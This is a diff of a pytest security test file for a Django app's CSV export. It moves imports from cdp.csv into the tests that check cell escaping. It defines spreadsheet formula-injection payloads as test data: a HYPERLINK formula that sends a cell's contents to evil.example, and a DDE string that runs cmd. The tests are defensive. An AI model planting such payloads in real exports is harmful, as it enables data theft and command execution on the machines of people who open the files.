@@ -10,11 +10,11 @@ import io
 import pytest
 from django_tenants.utils import tenant_context
 
-from cdp.csv import BOM, CsvFileWriter, csv_lines, open_csv, safe_cell
 from tenants.models import AuditLog
 from tests.conftest import api_client
 from tests.security.conftest import SYSTEM
 
+BOM = "\ufeff"
 EVIL_FIRST = '=HYPERLINK("http://evil.example/?d="&B3,"Open")'
 EVIL_LAST = "+cmd|' /C calc'!A0"
 
@@ -98,10 +98,14 @@ def test_export_link_is_shown_only_to_export_holders(world, segment, alpha_clien
     ("+54 9 11 5555-1234", "'+54 9 11 5555-1234"), (42, 42), (None, None),
 ])
 def test_safe_cell(value, expected):
+    from cdp.csv import safe_cell
+
     assert safe_cell(value) == expected
 
 
 def test_csv_lines_and_file_writer_share_the_rules(tmp_path):
+    from cdp.csv import CsvFileWriter, csv_lines, open_csv
+
     streamed = "".join(csv_lines([["name"], ["=evil"], ["Díaz"]]))
     assert streamed.startswith(BOM) and "'=evil" in streamed
     path = tmp_path / "out.csv"
